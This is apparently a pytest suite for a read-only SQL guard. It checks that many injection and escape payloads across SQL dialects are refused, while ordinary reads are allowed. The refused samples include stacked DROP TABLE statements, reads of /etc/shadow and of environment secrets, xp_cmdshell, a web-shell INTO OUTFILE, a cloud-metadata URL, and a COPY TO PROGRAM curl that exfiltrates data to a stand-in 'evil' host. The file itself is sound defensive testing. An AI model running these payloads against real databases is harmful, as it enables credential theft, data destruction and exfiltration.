"""Tests for the read-only SQL guard (SECURITY.md cases 9-12, plus allowed reads).

Every refused sample is checked through both ``check_sql`` (a Verdict) and
``assert_read_only`` (``UnsafeSQL``). Every allowed DuckDB sample also runs against a real
in-memory DuckDB so the allow-list cannot pass vacuously.
"""

from __future__ import annotations

import json
import logging

import duckdb
import pytest
import sqlglot
from sqlglot import exp

from dataask_jupyter.errors import UnsafeSQL
from dataask_jupyter.safety import (
    DENIED_FUNCTION_PREFIXES,
    DENIED_FUNCTIONS,
    VALID_DIALECTS,
    Verdict,
    assert_read_only,
    check_sql,
    guard_jsonl,
)


def _refused(sql: str, dialect: str = "duckdb") -> Verdict:
    verdict = check_sql(sql, dialect)
    assert not verdict.allowed, f"allowed but should be refused: {sql!r} ({dialect})"
    assert verdict.reason and verdict.kind
    with pytest.raises(UnsafeSQL) as info:
        assert_read_only(sql, dialect)
    assert str(info.value) == verdict.reason
    return verdict


def _ids(cases):
    return [f"{c[0]}:{c[1][:50]}" for c in cases]


# ----------------------------------------------------------------------------- case 9

MULTI_STATEMENT = [
    ("duckdb", "SELECT 1; DROP TABLE t"),
    ("duckdb", "DROP TABLE t; SELECT 1"),
    ("postgres", "SELECT 1; DROP TABLE t"),
    ("postgres", "DROP TABLE t; SELECT 1"),
    ("postgres", "SELECT 1/**/;/**/DROP TABLE t"),
    ("postgres", "SELECT 1 /**/; /**/ DROP TABLE t"),
    ("postgres", "SELECT $$;$$; DROP TABLE t"),
    ("postgres", "SELECT $tag$ ; $tag$; DROP TABLE t"),
    ("duckdb", "SELECT $$;$$; DROP TABLE t"),
    ("postgres", "SELECT '--'; DROP TABLE t"),
    ("mysql", "SELECT '--'; DROP TABLE t"),
    ("sqlite", "SELECT '--'; DROP TABLE t"),
    ("postgres", "BEGIN; COMMIT"),
    ("postgres", "SELECT 1; SELECT 2"),
    # Dialect-faithful tokenizing: where the database ends a string/comment, so do we.
    ("mysql", "SELECT 1 --1; DROP TABLE t"),  # MySQL needs a space after --
    ("postgres", "SELECT 1 -- c\r; DROP TABLE t"),
    ("tsql", "SELECT 1 a; SELECT 2"),
]


@pytest.mark.parametrize(("dialect", "sql"), MULTI_STATEMENT, ids=_ids(MULTI_STATEMENT))
def test_sec_09_multi_statement_rejected(dialect, sql):
    assert _refused(sql, dialect).kind == "multiple_statements"


NOT_A_READ = [
    ("postgres", "INSERT INTO t VALUES (1)", "insert"),
    ("postgres", "UPDATE t SET a = 1", "update"),
    ("postgres", "DELETE FROM t", "delete"),
    ("postgres", "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "merge"),
    ("postgres", "CREATE TABLE x (a int)", "create"),
    ("postgres", "CREATE VIEW v AS SELECT 1", "create"),
    ("postgres", "DROP TABLE t", "drop"),
    ("postgres", "ALTER TABLE t ADD COLUMN b int", "alter"),
    ("postgres", "TRUNCATE t", "truncate"),
    ("postgres", "GRANT SELECT ON t TO u", "grant"),
    ("postgres", "REVOKE ALL ON t FROM u", "revoke"),
    ("postgres", "SET search_path TO evil", "set"),
    ("postgres", "SET TRANSACTION READ WRITE", "set"),
    ("postgres", "RESET ALL", "reset"),
    ("postgres", "BEGIN", "transaction"),
    ("postgres", "START TRANSACTION", "start"),
    ("postgres", "COMMIT", "commit"),
    ("postgres", "ROLLBACK", "rollback"),
    ("postgres", "COPY t TO PROGRAM 'curl evil.example'", "copy"),
    ("postgres", "COPY t FROM '/etc/passwd'", "copy"),
    ("postgres", "CALL refresh_everything()", "call"),
    ("postgres", "DO $$BEGIN DELETE FROM t; END$$", "do"),
    ("postgres", "PREPARE p AS SELECT 1", "prepare"),
    ("postgres", "EXECUTE p", "execute"),
    ("postgres", "VACUUM", "vacuum"),
    ("postgres", "VACUUM FULL t", "vacuum"),
    ("postgres", "ANALYZE t", "analyze"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM t", "explain"),
    ("postgres", "EXPLAIN SELECT 1", "explain"),
    ("postgres", "LOCK TABLE t", "lock"),
    ("duckdb", "USE other", "use"),
    ("duckdb", "CHECKPOINT", "checkpoint"),
    ("duckdb", "SHOW TABLES", "show"),
    ("duckdb", "DESCRIBE t", "describe"),
    ("mysql", "USE mysql", "use"),
    ("sqlite", "VACUUM", "vacuum"),
    ("tsql", "EXEC xp_cmdshell 'dir'", "execute"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), NOT_A_READ, ids=_ids(NOT_A_READ))
def test_sec_09_non_read_statement_rejected(dialect, sql, kind):
    verdict = _refused(sql, dialect)
    assert verdict.kind == kind
    assert kind.upper() in verdict.reason


HIDDEN_WRITES = [
    ("postgres", "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "delete"),
    ("postgres", "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", "insert"),
    ("postgres", "WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x", "update"),
    ("postgres", "WITH x AS (SELECT 1) DELETE FROM t", "delete"),
    ("postgres", "SELECT * INTO t2 FROM t", "select_into"),
    ("postgres", "SELECT a INTO TEMP t2 FROM t", "select_into"),
    ("tsql", "SELECT * INTO dbo.t2 FROM t", "select_into"),
    ("postgres", "SELECT * FROM t FOR UPDATE", "locking_read"),
    ("postgres", "SELECT * FROM t FOR SHARE", "locking_read"),
    ("postgres", "SELECT * FROM t FOR NO KEY UPDATE", "locking_read"),
    ("postgres", "SELECT * FROM t FOR KEY SHARE", "locking_read"),
    ("postgres", "SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "locking_read"),
    ("mysql", "SELECT * FROM t LOCK IN SHARE MODE", "locking_read"),
    ("mysql", "SELECT * FROM t FOR UPDATE", "locking_read"),
    ("hive", "SELECT TRANSFORM(a) USING 'cat' FROM t", "transform_script"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), HIDDEN_WRITES, ids=_ids(HIDDEN_WRITES))
def test_sec_09_writes_hidden_in_a_query_rejected(dialect, sql, kind):
    assert _refused(sql, dialect).kind == kind


# Ambiguities where databases (or server settings) disagree on where a string or comment
# ends, or where T-SQL starts a second statement without a semicolon.
AMBIGUOUS = [
    ("mysql", r"SELECT 'a\'; DROP TABLE t; -- '", "ambiguous_string"),
    ("postgres", r"SELECT '\'; DROP TABLE t; --'", "ambiguous_string"),
    ("postgres", r"SELECT E'a\'b'", "ambiguous_string"),
    ("postgres", "SELECT 1 /* a /* b */ c */", "nested_comment"),
    ("mysql", "SELECT 1 /* /* */ ; DROP TABLE t; /* */", "nested_comment"),
    ("postgres", """SELECT U&"pg\\005fread\\005ffile"('/etc/passwd')""", "unicode_escape"),
    ("tsql", "SELECT 1 SHUTDOWN", "tsql_keyword:shutdown"),
    ("tsql", "SELECT * FROM t EXECUTE('DROP TABLE t')", "tsql_keyword:execute"),
    ("tsql", "SELECT 1 x WAITFOR DELAY '0:0:5'", "tsql_keyword:waitfor"),
    ("tsql", "SELECT 1 EXEC('DROP TABLE t')", "tsql_keyword:exec"),
    ("tsql", "SELECT * FROM t DELETE FROM t", "parse_error"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), AMBIGUOUS, ids=_ids(AMBIGUOUS))
def test_sec_09_dialect_ambiguities_rejected(dialect, sql, kind):
    assert _refused(sql, dialect).kind == kind


# ----------------------------------------------------------------------------- case 10

EXECUTABLE_COMMENTS = [
    ("mysql", "SELECT /*!50000 sleep(10) */ 1"),
    ("mysql", "SELECT 1 /*!50000 ; DROP TABLE t */"),
    ("mysql", "/*!50000 DROP TABLE t */"),
    ("mysql", "/*! DROP TABLE t */"),
    ("mysql", "SELECT 1 /*M!100000 , sleep(10) */"),
    ("mysql", "SELECT 1 /*m! x */"),
    ("mysql", "SELECT 1 FROM t WHERE a = 1 /*!AND sleep(5)*/"),
    ("duckdb", "SELECT 1 /*!50000 x */"),
    ("postgres", "/*!*/ SELECT 1"),
]


@pytest.mark.parametrize(("dialect", "sql"), EXECUTABLE_COMMENTS, ids=_ids(EXECUTABLE_COMMENTS))
def test_sec_10_executable_comments_rejected(dialect, sql):
    assert _refused(sql, dialect).kind == "executable_comment"


EMPTY = ["", "   ", "\n\t", ";", ";;", "-- only a comment", "/* only a comment */", "/**/;"]


@pytest.mark.parametrize("sql", EMPTY)
@pytest.mark.parametrize("dialect", ["duckdb", "mysql", "postgres"])
def test_sec_10_zero_statement_input_rejected(sql, dialect):
    assert _refused(sql, dialect).kind == "empty"


def test_sec_10_executable_comment_marker_inside_a_string_is_allowed():
    # Token-aware scan: '/*!' inside a string literal or quoted identifier is data.
    assert check_sql("SELECT '/*!50000 sleep(10) */' AS s", "mysql").allowed
    assert check_sql('SELECT 1 AS "/*!x"', "postgres").allowed
    assert check_sql("SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t", "mysql").allowed


# ----------------------------------------------------------------------------- case 11

DANGEROUS_FUNCTIONS = [
    ("postgres", "SELECT pg_read_file('/etc/shadow')", "pg_read_file"),
    ("postgres", "SELECT pg_read_binary_file('/etc/shadow')", "pg_read_binary_file"),
    ("postgres", "SELECT * FROM pg_ls_dir('/var/lib/postgresql')", "pg_ls_dir"),
    ("postgres", "SELECT pg_stat_file('/etc/shadow')", "pg_stat_file"),
    ("postgres", "SELECT lo_import('/etc/shadow')", "lo_import"),
    ("postgres", "SELECT lo_export(16409, '/tmp/x')", "lo_export"),
    ("postgres", "SELECT lo_get(16409)", "lo_get"),
    (
        "postgres",
        "SELECT dblink_exec('host=10.0.0.5 password=hunter2', 'DROP TABLE t')",
        "dblink_exec",
    ),
    ("postgres", "SELECT * FROM dblink('host=evil', 'select 1') AS r(a int)", "dblink"),
    ("postgres", "SELECT dblink_connect('host=evil')", "dblink_connect"),
    ("postgres", "SELECT query_to_xml('select * from secrets', true, true, '')", "query_to_xml"),
    ("postgres", "SELECT table_to_xml('t', true, true, '')", "table_to_xml"),
    ("postgres", "SELECT cursor_to_xml('c', 1, true, true, '')", "cursor_to_xml"),
    ("postgres", "SELECT set_config('role', 'postgres', false)", "set_config"),
    ("postgres", "SELECT current_setting('data_directory')", "current_setting"),
    ("postgres", "SELECT pg_sleep(600)", "pg_sleep"),
    ("postgres", "SELECT pg_sleep_for('5 minutes')", "pg_sleep_for"),
    ("postgres", "SELECT pg_sleep_until(now())", "pg_sleep_until"),
    ("postgres", "SELECT nextval('s')", "nextval"),
    ("postgres", "SELECT setval('s', 1)", "setval"),
    ("postgres", "SELECT pg_terminate_backend(42)", "pg_terminate_backend"),
    ("postgres", "SELECT pg_cancel_backend(42)", "pg_cancel_backend"),
    ("postgres", "SELECT pg_reload_conf()", "pg_reload_conf"),
    ("postgres", "SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
    ("postgres", "SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
    ("postgres", "SELECT pg_try_advisory_xact_lock(1)", "pg_try_advisory_xact_lock"),
    ("postgres", "SELECT txid_current()", "txid_current"),
    ("postgres", "SELECT ts_stat('select to_tsvector(pg_read_file(''/x''))')", "ts_stat"),
    ("postgres", "SELECT pg_catalog.pg_read_file('/etc/shadow')", "pg_read_file"),
    ("postgres", "SELECT \"pg_read_file\"('/etc/shadow')", "pg_read_file"),
    ("postgres", "SELECT PG_SLEEP (1)", "pg_sleep"),
    ("mysql", "SELECT load_file('/etc/shadow')", "load_file"),
    ("mysql", "SELECT sleep(10)", "sleep"),
    ("mysql", "SELECT `sleep`(10)", "sleep"),
    ("mysql", "SELECT sleep/**/(10)", "sleep"),
    ("mysql", "SELECT benchmark(100000000, md5('x'))", "benchmark"),
    ("mysql", "SELECT get_lock('x', 10)", "get_lock"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "load_extension"),
    ("sqlite", "SELECT readfile('/etc/shadow')", "readfile"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')", "writefile"),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "read_csv"),
    ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')", "read_csv_auto"),
    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", "read_parquet"),
    ("duckdb", "SELECT * FROM read_json_auto('/etc/x.json')", "read_json_auto"),
    ("duckdb", "SELECT * FROM read_text('/etc/passwd')", "read_text"),
    ("duckdb", "SELECT * FROM read_blob('/etc/passwd')", "read_blob"),
    ("duckdb", "SELECT * FROM glob('/home/*/.ssh/*')", "glob"),
    ("duckdb", "SELECT * FROM parquet_scan('x.parquet')", "parquet_scan"),
    (
        "duckdb",
        "SELECT * FROM sqlite_scan('/home/u/.dataask/store.db', 'connections')",
        "sqlite_scan",
    ),
    (
        "duckdb",
        "SELECT * FROM postgres_scan('host=db password=s3cret', 'public', 't')",
        "postgres_scan",
    ),
    ("duckdb", "SELECT * FROM postgres_query('db', 'DROP TABLE t')", "postgres_query"),
    ("duckdb", "SELECT * FROM mysql_query('db', 'DROP TABLE t')", "mysql_query"),
    ("duckdb", "SELECT * FROM iceberg_scan('s3://b/t')", "iceberg_scan"),
    ("duckdb", "SELECT * FROM delta_scan('s3://b/t')", "delta_scan"),
    ("duckdb", "SELECT * FROM pragma_table_info('t')", "pragma_table_info"),
    ("duckdb", "SELECT * FROM query('DELETE FROM t')", "query"),
    ("duckdb", "SELECT getenv('AWS_SECRET_ACCESS_KEY')", "getenv"),
    ("duckdb", "SELECT 'HOME'.getenv()", "getenv"),
    ("duckdb", "SELECT current_setting('s3_secret_access_key')", "current_setting"),
    ("duckdb", "SELECT * FROM duckdb_secrets()", "duckdb_secrets"),
    ("duckdb", "SELECT http_get('https://evil.example')", "http_get"),
    ("duckdb", "SELECT * FROM file('/etc/passwd')", "file"),
    (
        "tsql",
        "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes', 'select 1')",
        "openrowset",
    ),
    ("tsql", "SELECT * FROM OPENQUERY(linked, 'select 1')", "openquery"),
    (
        "tsql",
        "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t",
        "opendatasource",
    ),
    ("tsql", "SELECT NEXT VALUE FOR dbo.s", "nextvaluefor"),
    ("snowflake", "SELECT SYSTEM$WAIT(10)", "system$wait"),
    ("snowflake", "SELECT s.nextval", "nextval"),
    ("bigquery", "SELECT * FROM EXTERNAL_QUERY('conn', 'select 1')", "external_query"),
    ("clickhouse", "SELECT * FROM url('http://169.254.169.254/', CSV)", "url"),
    ("clickhouse", "SELECT * FROM file('/etc/passwd', 'LineAsString')", "file"),
    ("spark", "SELECT reflect('java.lang.Runtime', 'getRuntime')", "reflect"),
    ("oracle", "SELECT dbms_lock.sleep(5) FROM dual", "package:dbms_"),
    ("oracle", "SELECT dbms_pipe.receive_message('a', 5) FROM dual", "package:dbms_"),
    ("oracle", "SELECT utl_http.request('http://evil') FROM dual", "package:utl_"),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "fn"), DANGEROUS_FUNCTIONS, ids=_ids(DANGEROUS_FUNCTIONS)
)
def test_sec_11_dangerous_functions_rejected(dialect, sql, fn):
    verdict = _refused(sql, dialect)
    expected = fn if ":" in fn else f"function:{fn}"
    assert verdict.kind == expected
    if not fn.startswith("package:"):
        assert f"{fn}()" in verdict.reason


POSITIONS = [
    "SELECT pg_sleep(1)",
    "SELECT * FROM t WHERE a = pg_sleep(1)",
    "SELECT * FROM (SELECT pg_sleep(1)) s",
    "WITH c AS (SELECT pg_sleep(1)) SELECT * FROM c",
    "SELECT sum(a) OVER (PARTITION BY pg_sleep(1)) FROM t",
    "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t",
    "SELECT CASE WHEN a > 0 THEN pg_sleep(1) END FROM t",
    "SELECT * FROM t JOIN LATERAL (SELECT pg_sleep(1)) s ON true",
    "SELECT * FROM ROWS FROM (pg_sleep(1))",
    "SELECT * FROM t GROUP BY a HAVING max(pg_sleep(1)) IS NULL",
    "SELECT * FROM t ORDER BY pg_sleep(1)",
    "SELECT 1 UNION ALL SELECT pg_sleep(1)",
    "VALUES (pg_sleep(1))",
    "SELECT CAST(pg_sleep(1) AS text)",
    "SELECT coalesce(NULL, upper(pg_sleep(1)::text))",
]


@pytest.mark.parametrize("sql", POSITIONS)
def test_sec_11_functions_found_anywhere_in_the_tree(sql):
    assert _refused(sql, "postgres").kind == "function:pg_sleep"


CHECKED_DIALECTS = [
    "duckdb",
    "postgres",
    "mysql",
    "sqlite",
    "tsql",
    "snowflake",
    "bigquery",
    "trino",
    "clickhouse",
    "oracle",
    "spark",
    "redshift",
]
EVERY_DENIED_NAME = sorted(DENIED_FUNCTIONS) + [f"{p}x" for p in DENIED_FUNCTION_PREFIXES]


@pytest.mark.parametrize("name", EVERY_DENIED_NAME)
def test_sec_11_every_denied_function_rejected_in_every_dialect(name):
    # If sqlglot ever parses one of these into a typed class with another name (or misparses
    # it as something else), this fails; refusals for other reasons (parse errors) are fine.
    for dialect in CHECKED_DIALECTS:
        for sql in (
            f"SELECT {name}('a')",
            f"SELECT * FROM {name}('a')",
            f"SELECT a FROM t WHERE b IN (SELECT {name}('a'))",
        ):
            assert not check_sql(sql, dialect).allowed, (dialect, sql)
        assert not check_sql(f"SELECT {name.upper()}('a')", dialect).allowed


SYSTEM_VARIABLES = [
    ("mysql", "SELECT @@hostname", "system_variable"),
    ("mysql", "SELECT @@global.secure_file_priv", "system_variable"),
    ("mysql", "SELECT * FROM t WHERE a = @@version", "system_variable"),
    ("tsql", "SELECT @@SERVERNAME", "system_variable"),
    ("mysql", "SELECT @x := 1", "variable"),
    ("mysql", "SELECT @x", "variable"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), SYSTEM_VARIABLES, ids=_ids(SYSTEM_VARIABLES))
def test_sec_11_system_variables_rejected(dialect, sql, kind):
    assert _refused(sql, dialect).kind == kind


SECRETS_IN_ARGUMENTS = [
    ("postgres", "SELECT pg_read_file('/etc/shadow')", "/etc/shadow"),
    ("postgres", "SELECT dblink_exec('host=10.0.0.5 password=hunter2', 'x')", "hunter2"),
    ("duckdb", "SELECT * FROM postgres_scan('host=db password=s3cret', 'p', 't')", "s3cret"),
    ("duckdb", "SELECT * FROM read_csv('/home/alice/private.csv')", "/home/alice"),
    ("duckdb", "SELECT * FROM '/etc/passwd'", "/etc/passwd"),
    ("duckdb", "SELECT * FROM 'https://user:tok3n@evil.example/x.csv'", "tok3n"),
    ("duckdb", "ATTACH '/home/alice/.dataask/store.db' AS s", "/home/alice"),
    ("duckdb", "COPY t TO '/tmp/exfil.csv'", "/tmp/exfil"),
    ("postgres", "COPY t TO PROGRAM 'curl http://evil/$(cat /etc/shadow)'", "/etc/shadow"),
    ("postgres", "CALL p('/etc/shadow')", "/etc/shadow"),
    ("mysql", "SELECT * FROM t INTO OUTFILE '/var/www/shell.php'", "/var/www"),
    ("mysql", "LOAD DATA INFILE '/etc/shadow' INTO TABLE t", "/etc/shadow"),
    ("duckdb", "SELECT * FROM E'/etc/shadow'", "/etc/shadow"),  # a parse error
    ("tsql", "SELECT * FROM OPENROWSET(BULK 'C:\\secret.txt', SINGLE_CLOB) x", "secret"),
    ("snowflake", "SELECT $1 FROM @stage/secret_dir/x.csv", "secret_dir"),
    ("postgres", "SELECT 1 FROM t WHERE x = 'a' 'password=hunter2' ORDER", "hunter2"),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "secret"), SECRETS_IN_ARGUMENTS, ids=_ids(SECRETS_IN_ARGUMENTS)
)
def test_sec_11_reason_never_echoes_arguments(dialect, sql, secret):
    verdict = _refused(sql, dialect)
    assert secret not in verdict.reason
    assert secret not in json.dumps(verdict.to_dict())


def test_sec_11_parsing_does_not_log_the_sql(caplog):
    # Plain sqlglot logs the text of statements it falls back to a Command for ...
    with caplog.at_level(logging.DEBUG):
        sqlglot.parse("CALL p('/etc/canary')", read="postgres")
    assert "/etc/canary" in caplog.text
    # ... the guard must not.
    with caplog.at_level(logging.DEBUG):
        for sql in (
            "CALL p('/etc/shadow')",
            "EXPLAIN ANALYZE DELETE FROM t WHERE x = '/etc/shadow'",
        ):
            assert not check_sql(sql, "postgres").allowed
    assert "/etc/shadow" not in caplog.text


# ----------------------------------------------------------------------------- case 12

FILE_TABLES = [
    ("duckdb", "SELECT * FROM '/etc/passwd'"),
    ("duckdb", "SELECT * FROM 'https://evil.example/x.csv'"),
    ("duckdb", "SELECT * FROM 's3://bucket/x.parquet'"),
    ("duckdb", "SELECT * FROM 'x.csv'"),
    ("duckdb", "SELECT * FROM 'data/*.parquet'"),
    ("duckdb", "FROM '/etc/passwd'"),
    ("duckdb", "SELECT * FROM t JOIN '/etc/passwd' p ON true"),
    ("duckdb", "SELECT * FROM t, 'x.csv'"),
    ("duckdb", "SELECT * FROM (FROM '/etc/passwd')"),
    ("duckdb", "WITH c AS (SELECT * FROM '/etc/passwd') SELECT * FROM c"),
    ("duckdb", "PIVOT '/x.csv' ON a USING sum(b)"),
    ("duckdb", 'SELECT * FROM "/etc/passwd"'),
    ("duckdb", 'SELECT * FROM "data.csv"'),
    ("duckdb", "SELECT * FROM data.csv"),
    ("duckdb", 'SELECT * FROM main."x.parquet"'),
    ("postgres", "SELECT * FROM '/etc/passwd'"),
    ("snowflake", "SELECT $1 FROM @my_stage/x.csv"),
]


@pytest.mark.parametrize(("dialect", "sql"), FILE_TABLES, ids=_ids(FILE_TABLES))
def test_sec_12_files_and_urls_as_tables_rejected(dialect, sql):
    assert _refused(sql, dialect).kind == "file_table"


DATABASE_ESCAPES = [
    ("duckdb", "ATTACH '/home/alice/.dataask/store.db' AS meta", "attach"),
    ("duckdb", "ATTACH 'host=db' AS pg (TYPE postgres)", "attach"),
    ("duckdb", "DETACH meta", "detach"),
    ("duckdb", "PRAGMA enable_external_access", "pragma"),
    ("sqlite", "PRAGMA writable_schema = 1", "pragma"),
    ("duckdb", "INSTALL httpfs", "install"),
    ("duckdb", "LOAD httpfs", "load"),
    ("duckdb", "SET enable_external_access = true", "set"),
    ("duckdb", "RESET enable_external_access", "reset"),
    ("duckdb", "COPY t TO '/tmp/x.csv'", "copy"),
    ("duckdb", "EXPORT DATABASE '/tmp/x'", "parse_error"),
    ("duckdb", "CREATE SECRET (TYPE s3, KEY_ID 'x')", "parse_error"),
    ("sqlite", "ATTACH DATABASE '/home/alice/.dataask/store.db' AS meta", "attach"),
    ("mysql", "SELECT * FROM t INTO OUTFILE '/tmp/x'", "into_outfile"),
    ("mysql", "SELECT a FROM t INTO DUMPFILE '/tmp/x'", "into_outfile"),
    ("mysql", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "load_data"),
    ("tsql", "SELECT * FROM OPENROWSET(BULK 'C:\\x.txt', SINGLE_CLOB) AS x", "tsql_keyword:bulk"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), DATABASE_ESCAPES, ids=_ids(DATABASE_ESCAPES))
def test_sec_12_attach_pragma_install_load_rejected(dialect, sql, kind):
    assert _refused(sql, dialect).kind == kind


def test_sec_12_file_tables_are_real_reads_in_duckdb(tmp_path):
    # Why the guard must refuse them: DuckDB really does read these as files.
    path = tmp_path / "secret.csv"
    path.write_text("a,b\n1,2\n")
    con = duckdb.connect()
    for sql in (f"SELECT * FROM '{path}'", f'SELECT * FROM "{path}"'):
        assert con.sql(sql).fetchall() == [(1, 2)]
        assert check_sql(sql).kind == "file_table"


# ----------------------------------------------------------------------------- allowed

ALLOWED_DUCKDB = [
    "SELECT 1",
    "SELECT 1;",
    "SELECT 1 -- ; DROP TABLE t",
    "SELECT 1 /* normal comment; DROP TABLE t */",
    "/* leading */ SELECT 1",
    "SELECT 'drop table t; --' AS s",
    "SELECT 'it''s; DELETE' AS s",
    "SELECT 'a\\b' AS s",
    "SELECT '/*!50000 x */' AS s",
    "SELECT $$dollar; quoted$$ AS s",
    "SELECT * FROM t",
    "SELECT * FROM main.t",
    "SELECT * FROM memory.main.t",
    "SELECT * FROM conn.sales.orders",
    'SELECT "a b" FROM "My Table"',
    "FROM t SELECT a",
    "FROM t",
    "SELECT a, b FROM t WHERE a > 0 ORDER BY b DESC LIMIT 10 OFFSET 5",
    "SELECT a, count(*) AS n, sum(b) FROM t GROUP BY a HAVING count(*) > 0",
    "SELECT a, row_number() OVER (PARTITION BY a ORDER BY b) AS rn FROM t",
    "SELECT * FROM t QUALIFY row_number() OVER (PARTITION BY a ORDER BY b) = 1",
    "SELECT CASE WHEN a > 1 THEN 'big' ELSE 'small' END FROM t",
    "SELECT CAST(a AS VARCHAR), b::DOUBLE, TRY_CAST('x' AS INTEGER) FROM t",
    "SELECT date_trunc('month', d), strftime(d, '%Y'), d + INTERVAL 1 DAY FROM t",
    "SELECT current_date, now() IS NOT NULL",
    "WITH x AS (SELECT a FROM t) SELECT * FROM x",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    "SELECT a FROM t UNION SELECT a FROM t",
    "SELECT a FROM t UNION ALL SELECT 2",
    "SELECT a FROM t INTERSECT SELECT a FROM t",
    "SELECT a FROM t EXCEPT SELECT 99",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT * FROM (VALUES (1), (2)) v(x)",
    "(SELECT 1)",
    "SELECT * FROM (SELECT a FROM t) s WHERE a IN (SELECT a FROM t)",
    "SELECT EXISTS (SELECT 1 FROM t)",
    "SELECT * FROM t JOIN conn.sales.orders o ON t.a = o.id",
    "SELECT * FROM t LEFT JOIN LATERAL (SELECT t.a * 2 AS dbl) l ON true",
    "SELECT * EXCLUDE (b) FROM t",
    "SELECT a FROM t GROUP BY ALL",
    "SELECT * FROM range(3)",
    "SELECT * FROM generate_series(1, 3)",
    "SELECT unnest([1, 2, 3])",
    "SELECT list_value(1, 2), {'k': 1} AS s",
    "SELECT string_agg(CAST(a AS VARCHAR), ',') FROM t",
    "SELECT json_extract('{\"a\": 1}', '$.a')",
    "SELECT regexp_matches('abc', 'b')",
    "SELECT currval IS NULL FROM (SELECT NULL AS currval)",
    "PIVOT t ON a USING sum(b)",
    "SELECT a FROM t WHERE b BETWEEN 1 AND 3 AND CAST(a AS VARCHAR) LIKE '1%'",
    "SELECT coalesce(NULL, 1), nullif(1, 2), greatest(1, 2)",
    "SELECT * FROM t USING SAMPLE 50 PERCENT (bernoulli)",
]

ALLOWED_OTHER = [
    ("postgres", "SELECT now()::date, a FROM t WHERE a ILIKE 'x%'"),
    ("postgres", "SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b"),
    ("postgres", "SELECT count(*) FILTER (WHERE a > 1) FROM t"),
    ("postgres", "SELECT * FROM generate_series(1, 10) g"),
    ("postgres", "SELECT to_tsvector(a) @@ to_tsquery('x') FROM t"),
    ("postgres", "SELECT $1"),
    ("postgres", "SELECT U&'d\\0061t\\+000061' AS s"),
    ("postgres", "SELECT a & b FROM t"),
    ("postgres", "TABLE t"),
    ("postgres", "SELECT * FROM conn.schema.tbl"),
    ("mysql", "SELECT `a`, IFNULL(b, 0) FROM `db`.`t` LIMIT 5, 10"),
    ("mysql", "SELECT DATE_FORMAT(d, '%Y-%m') FROM t"),
    ("mysql", "SELECT 1 -- comment"),
    ("mysql", "SELECT 1 # comment ; DROP TABLE t"),
    ("sqlite", "SELECT strftime('%Y', d) FROM t WHERE a GLOB 'x*'"),
    ("tsql", "SELECT TOP 10 * FROM [dbo].[t] ORDER BY [a]"),
    ("tsql", "WITH x AS (SELECT a FROM dbo.t) SELECT * FROM x"),
    ("tsql", "SELECT [SHUTDOWN] FROM t"),
    ("bigquery", "SELECT * FROM `my-project.dataset.table` WHERE a > 1"),
    ("snowflake", "SELECT * FROM db.schema.t QUALIFY row_number() OVER (ORDER BY a) = 1"),
    ("trino", "SELECT * FROM catalog.schema.t CROSS JOIN UNNEST(ARRAY[1, 2]) AS u(x)"),
    ("oracle", "SELECT a FROM t WHERE ROWNUM <= 10"),
]


@pytest.mark.parametrize("sql", ALLOWED_DUCKDB)
def test_allowed_reads_pass_the_guard(sql):
    verdict = check_sql(sql, "duckdb")
    assert verdict.allowed, verdict.reason
    assert verdict.to_dict() == {"allowed": True}
    assert isinstance(assert_read_only(sql, "duckdb"), exp.Expression)


@pytest.mark.parametrize(("dialect", "sql"), ALLOWED_OTHER, ids=_ids(ALLOWED_OTHER))
def test_allowed_reads_pass_the_guard_in_other_dialects(dialect, sql):
    verdict = check_sql(sql, dialect)
    assert verdict.allowed, verdict.reason


@pytest.fixture(scope="module")
def duck():
    con = duckdb.connect()
    con.execute("SET enable_external_access = false")
    con.execute(
        "CREATE TABLE t AS SELECT * FROM (VALUES (1, 2, DATE '2024-01-31'), (2, 3, DATE '2024-02-01')) v(a, b, d)"
    )
    con.execute('CREATE TABLE "My Table" ("a b" INTEGER)')
    con.execute("ATTACH ':memory:' AS conn")
    con.execute("CREATE SCHEMA conn.sales")
    con.execute("CREATE TABLE conn.sales.orders AS SELECT 1 AS id, 9.5 AS total")
    yield con
    con.close()


@pytest.mark.parametrize("sql", ALLOWED_DUCKDB)
def test_allowed_reads_execute_in_real_duckdb(duck, sql):
    assert check_sql(sql, "duckdb").allowed
    duck.sql(sql).fetchall()  # raises if the sample is not valid DuckDB


# ----------------------------------------------------------------------------- API shape


def test_assert_read_only_returns_the_parsed_statement():
    tree = assert_read_only("WITH x AS (SELECT 1 AS a) SELECT a FROM x", "postgres")
    assert isinstance(tree, exp.Select)
    assert tree.sql("postgres") == "WITH x AS (SELECT 1 AS a) SELECT a FROM x"


def test_unsafe_sql_is_a_value_error_naming_the_kind():
    with pytest.raises(ValueError, match="DELETE"):
        assert_read_only("DELETE FROM t")
    with pytest.raises(UnsafeSQL, match=r"pg_read_file\(\)"):
        assert_read_only("SELECT pg_read_file('/etc/shadow')", "postgres")


